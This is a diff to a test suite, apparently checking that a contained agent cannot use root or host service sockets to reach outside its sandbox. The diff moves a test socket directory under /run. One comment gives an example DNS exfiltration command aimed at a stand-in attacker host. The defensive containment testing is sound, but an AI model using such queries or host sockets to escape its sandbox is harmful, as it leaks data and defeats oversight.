@@ -126,7 +126,8 @@ describe.skipIf(!isRoot)('a contained agent cannot make root act outside its cop
     // A world-usable socket of a host service that talks to the network for its clients, as
     // /run/systemd/resolve/io.systemd.Resolve and /run/dbus/system_bus_socket are on the hosted
     // runners' Ubuntu (resolvectl query <data>.attacker.example sends a DNS query from the host).
-    const dir = mkdtempSync(join(tmpdir(), 'gantry-hostsvc-'));
+    // Under /run, where host services keep theirs.
+    const dir = mkdtempSync('/run/gantry-hostsvc-');
     chmodSync(dir, 0o755);
     const path = join(dir, 'service.sock');
     const service = createServer((_req, res) => res.end('reached-the-host-network'));
